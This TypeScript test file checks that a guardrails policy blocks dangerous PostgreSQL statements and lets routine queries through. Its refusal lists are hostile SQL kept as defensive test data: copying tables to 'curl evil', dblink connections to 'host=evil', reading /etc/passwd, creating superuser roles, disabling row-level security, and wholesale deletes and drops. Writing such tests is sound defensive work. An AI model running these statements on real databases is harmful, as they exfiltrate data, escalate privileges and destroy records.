/**
 * The shipped pack against the real vocabulary and PostgreSQL's own grammar: it loads, every action and value in it occurs, each class of
 * the catalogue (redteam 6a, 6b) is refused by the rule made for it, and what people and their tools do all day is not.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import type { Decision } from '../../src/contract/decision.js';
import { type LoadedPolicy, loadPolicy } from '../../src/policy/index.js';
import { protocols } from '../../src/protocols/index.js';
import { identity } from './fixture-protocols.js';

const descriptors = protocols.map((protocol) => protocol.descriptor);
const pack = { path: 'policies/guardrails.yaml', text: readFileSync(new URL('../../policies/guardrails.yaml', import.meta.url), 'utf8') };
const open = {
  path: 'open.yaml',
  text: 'version: 1\ndefaults: [{ operations: allow }]\nrules: [{ id: all, effect: allow, actions: [connect, unknown, "*"] }]\n',
};
const target = { name: 'bank-db', protocol: 'postgres', labels: {} };
const factsOf = descriptors.find((descriptor) => descriptor.kind === 'postgres')?.factsOf;

const policy: LoadedPolicy = loadPolicy([open, pack], descriptors);

async function decide(sql: string, under = policy): Promise<Decision> {
  const facts = await factsOf?.(sql);
  expect(facts).toBeDefined();
  return under.view(identity(), target).decide(facts ?? { effects: [], unknown: [], summary: '', redacted: null });
}

const ASKS = 'unseen-code';

/** Statements by the rule that must refuse them, or ask. */
const refused: Readonly<Record<string, readonly string[]>> = {
  'unseen-code': [
    'select bank.tidy_up()',
    'select tidy_up(id) from bank.customers',
    'delete from bank.customers where id = 1 and bank.check(id)',
    'select 1 operator(bank.~~>) 2',
    'create trigger g before update on bank.customers for each row execute function bank.touch()',
  ],
  'not-sql': ['selekt 1', 'delete fro ledger.entries', "select 'open"],
  'not-understood': ["select set_config('a' || 'b', 'c', false)"],
  'no-code-blocks': ['do $$ begin delete from bank.customers; end $$', 'call bank.wipe()', "DO LANGUAGE plpgsql 'begin end'"],
  'no-unseen-bodies': [
    "create function f() returns int language plpgsql as 'begin delete from t; return 1; end'",
    "create or replace procedure p() as 'begin end' language plpgsql",
    "create function f() returns int language plperl as 'x'",
    "create function f() returns int language sql as 'no sql at all'",
  ],
  'no-drop': [
    'drop table bank.customers',
    'drop schema bank cascade',
    'drop view if exists bank.customer_contacts',
    'drop database bank',
    'select 1; drop index bank.i',
    'drop policy p on bank.customers',
    'drop function f(int)',
    'drop materialized view bank.customer_search',
    'drop trigger t on bank.customers',
  ],
  'no-truncate': ['truncate bank.customers', 'truncate a, b cascade', 'TRUNCATE TABLE ONLY ledger.entries RESTART IDENTITY'],
  'no-column-loss': [
    'alter table bank.customers drop column ssn',
    'alter table bank.customers alter column ssn type int using 0',
    'alter table p detach partition q',
    'alter table t set unlogged',
    'alter table t no inherit p',
  ],
  'no-large-object-loss': [
    'select lo_unlink(oid) from pg_largeobject_metadata',
    "select pg_catalog.lo_put(7, 0, 'x')",
    "select lowrite(0, 'x')",
    'select lo_truncate(0, 0)',
  ],
  'no-unbounded-delete': [
    "create function f() returns void language sql as 'delete from t'",
    'create procedure p() language sql as $$ select 1; delete from t $$',
    'delete from t where active or not active',
    'delete from t where id < 5 or id >= 5',
    'delete from t where active in (true, false)',
    "delete from t where id = nextval('s')",
    'delete from t where id = any (app.all_ids())',
    'delete from t',
    'delete from t where true',
    'delete from t where 1=1',
    'delete from t where id=id',
    'delete from t where id=1 or true',
    'delete from t where exists(select 1)',
    "delete from t where v like '%'",
    'delete from only t',
    'delete/**/from/**/t',
    'delete from t -- where id=1',
    'DeLeTe FROM "t"',
    'delete from public.t',
    'delete from U&"\\0074"',
    'with x as (delete from t returning *) select * from x',
    'explain analyze delete from t',
    'copy (delete from t returning *) to stdout',
    'prepare zz as delete from t',
    'begin; delete from t; commit',
    'delete from t where $1::bool or id=$2',
    'create rule r as on insert to t do also delete from t',
    'merge into t using s on true when matched then delete',
  ],
  'no-unbounded-update': [
    'update t set v=v',
    'update t set v=1 where v=v',
    'with x as (update t set v=1 returning *) select * from x',
    'update t set v=1 where id is not null',
  ],
  'no-catalog-writes': [
    "update pg_class set relacl = null where relname = 'customers'",
    "update pg_catalog.pg_authid set rolsuper = true where rolname = 'eve'",
    'insert into pg_catalog.pg_proc select * from p',
    'delete from pg_depend where objid = 7',
    'delete from only "pg_depend" where objid = 7',
    'with x as (update pg_database set datallowconn = true where oid = 5 returning 1) select * from x',
    'merge into pg_catalog.pg_class c using s on c.oid = s.oid when matched then do nothing',
    'copy pg_catalog.pg_statistic from stdin',
    'prepare p as delete from pg_trigger where tgrelid = $1',
    'create rule r as on update to pg_settings do also nothing',
    "update pg_settings set setting = 'off' where name = 'row_security'",
    'alter table pg_class add column a int',
    'alter table pg_catalog.pg_class rename to pg_klass',
    'delete from pg_toast.pg_toast_1255 where chunk_id = 1',
    "update information_schema.sql_parts set comments = 'x' where feature_id = '1'",
  ],
  'no-system-schemas': [
    "create function pg_catalog.lower(int) returns int language sql as 'select 1'",
    'create table pg_catalog.customers (a int)',
    'create view information_schema.v as select 1',
    'create operator pg_catalog.=== (leftarg = int, rightarg = int, function = int4eq)',
    "create type pg_catalog.mood as enum ('a')",
    'alter function pg_catalog.lower(text) volatile',
    'alter schema pg_catalog rename to x',
    'alter function f(int) set schema pg_catalog',
    'alter table t set schema information_schema',
    'insert into information_schema.t values (1)',
  ],
  'no-role-changes': [
    'create role eve superuser',
    "alter role alice password 'x'",
    "create user eve with encrypted password 'x'",
    'drop role bob',
    'reassign owned by bob to eve',
    'alter role bob rename to eve',
    'alter role all set search_path = evil',
    'create group g',
  ],
  'no-rights-changes': [
    'grant all on bank.customers to public',
    'grant dba to alice',
    'revoke select on bank.customers from auditors',
    'alter default privileges grant select on tables to public',
  ],
  'no-borrowed-rights': ["create function f() returns int language sql security definer as 'select 1'", 'alter function f() security definer'],
  'no-owner-changes': ['alter table bank.customers owner to eve', 'alter schema bank owner to eve', 'alter function f() owner to eve'],
  'no-other-role': [
    'set role dba',
    'set session authorization postgres',
    'set local role dba',
    "select set_config('role', 'dba', false)",
    "select 1 where set_config('session_authorization', 'postgres', true) = ''",
  ],
  'no-guards-off': [
    'alter table bank.customers disable row level security',
    'alter table bank.customers no force row level security',
    'alter table bank.customers disable trigger all',
    'alter table bank.customers enable replica trigger noted',
    'alter table bank.customers enable replica rule stays',
  ],
  'no-guards-replaced': [
    'create or replace trigger noted before update on t for each row when (false) execute function f()',
    'create or replace rule r as on delete to t do also nothing',
  ],
  'no-row-security-changes': ['create policy p on t using (true)', 'alter policy p on t using (true)'],
  'no-other-meanings': [
    'create operator public.= (leftarg = numeric, rightarg = int, function = f)',
    'create cast (text as int) with function f(text) as implicit',
    'create operator public.!!! (rightarg=text, function=pg_read_file)',
    'create cast (text as bytea) with function pg_read_binary_file(text)',
    'alter operator public.=== (int, int) set schema pg_temp',
  ],
  'no-namesakes': [
    "create function lower(varchar) returns text language sql as 'select 1'",
    'alter function f(varchar) rename to lower',
    'alter function a.upper(varchar) set schema public',
    "create function public.unnest(int[]) returns setof int language sql as 'select 1'",
  ],
  'no-programs': ["copy bank.customers to program 'curl evil'", "copy t from program 'id'"],
  'no-server-files': ["copy bank.customers to '/tmp/x'", "copy t from '/etc/passwd'", "load 'evil'"],
  'no-dangerous-functions': [
    "select pg_read_file('/etc/passwd')",
    "select lo_import('/etc/passwd')",
    "select * from dblink('host=evil', 'select 1') as t(a int)",
    "select query_to_xml('delete from t', true, true, '')",
    'select pg_terminate_backend(42)',
    'select pg_reload_conf()',
    "select 1 order by pg_catalog.pg_ls_dir('.')",
    "select * from ts_stat('select 1')",
    'create aggregate a (text) (sfunc = pg_read_file, stype = text)',
  ],
  'no-foreign-reach': [
    'create server s foreign data wrapper postgres_fdw',
    "create user mapping for public server s options (user 'a')",
    'create foreign table ft (a int) server s',
    'import foreign schema public from server s into bank',
  ],
  'no-replication': ['create publication p for all tables', "create subscription s connection 'host=evil' publication p"],
  'no-new-code': ['create extension dblink', 'alter extension dblink update', 'create language plperlu'],
  'no-server-objects': ['create event trigger e on ddl_command_start execute function f()', "create tablespace ts location '/x'"],
  'no-server-settings': ["alter system set log_statement = 'none'", 'alter system reset all'],
  'no-database-settings': ['alter database bank set search_path = evil', 'alter database bank with connection limit 1'],
  'no-unseen-settings': [
    'create temp view vs as select * from pg_settings',
    'create rule "_RETURN" as on select to bank.t do instead select * from pg_catalog.pg_settings',
  ],
  'no-guarding-settings': [
    'set session_replication_role = replica',
    "select set_config('session_replication_role', 'replica', false)",
    'set local log_statement to none',
    'set SESSION_REPLICATION_ROLE to replica',
  ],
};

const honest = [
  'select * from bank.customers where id = 7',
  "select 'DROP TABLE x' as delete",
  'insert into ledger.entries(account_id, amount) values (1, 2) returning id',
  "update bank.customers set email = 'a@b.example' where id = 7",
  'delete from ledger.entries where id = 7',
  'explain delete from ledger.entries',
  'insert into ledger.entries select * from ledger.staging',
  'begin isolation level repeatable read read only',
  'commit',
  'set search_path = bank, public',
  'set row_security = off',
  "select pg_catalog.set_config('search_path', '', false)",
  'copy bank.customers (id, email) to stdout',
  'copy ledger.entries from stdin with (format csv)',
  'create table bank.notes (id int primary key, note text)',
  'create index concurrently on bank.customers (email)',
  'alter table bank.customers add column nickname text',
  'declare c cursor for select * from bank.customers',
  'lock table bank.customers in access share mode',
  'vacuum analyze bank.customers',
  'listen news',
  'discard all',
  'show server_version',
  'refresh materialized view bank.customer_search',
  'insert into bank.pg_notes values (1)',
  "update public.pg_notes set body = 'x' where id = 7",
  'create table bank.pg_notes (id int)',
  'create function f() returns int return 1',
  "create function bank.initials(int) returns int language sql as 'select 1'",
  "create type mood as enum ('a')",
  'create schema reports',
  "create or replace function f(int) returns int language sql stable as 'select $1 + 1'",
  "create function f(int) returns void language sql as 'delete from t where id = $1'",
  'create or replace view v as select 1',
  'alter function f(int) rename to g',
  'alter table t set schema archive',
  'delete from t where (id > 5 and id < 9) or (id > 20 and id < 22)',
  'create temp table t as select * from pg_catalog.pg_settings',
  'comment on table bank.customers is $$people$$',
  'select count(*), now(), upper(email) from bank.customers group by 3',
  "SELECT n.nspname, c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('r','p','') AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2",
  '',
  ';',
];

describe('guardrails', () => {
  test('only deny, or ask about code that nobody saw, and each rule has a message and a hint', () => {
    const rules = (parse(pack.text) as { rules: Record<string, unknown>[] }).rules;
    for (const rule of rules)
      expect(rule).toMatchObject({
        effect: rule['id'] === ASKS ? 'require_approval' : 'deny',
        message: expect.any(String),
        hint: expect.any(String),
        targets: { protocols: ['postgres'] },
      });
  });

  test('every rule has its cases here', () => {
    expect(
      policy.rules
        .filter((name) => name.startsWith('guardrails/'))
        .map((name) => name.slice('guardrails/'.length))
        .sort(),
    ).toEqual(Object.keys(refused).sort());
  });

  for (const [rule, statements] of Object.entries(refused)) {
    test.each(statements)(`${rule} refuses: %s`, async (sql) => {
      const decision = await decide(sql);
      expect(decision).toMatchObject({ effect: rule === ASKS ? 'require_approval' : 'deny', rule: `guardrails/${rule}`, hint: expect.any(String) });
      // The wrong twin: it is this pack that refuses, not what stands beside it.
      expect((await decide(sql, loadPolicy([open], descriptors))).effect).toBe('allow');
    });
  }

  test.each(honest)('lets pass: %s', async (sql) => {
    expect(await decide(sql)).toMatchObject({ effect: 'allow' });
  });

  test('alone it lets nobody connect', () => {
    expect(loadPolicy([pack], descriptors).view(identity(), target).connect().effect).toBe('deny');
  });
});
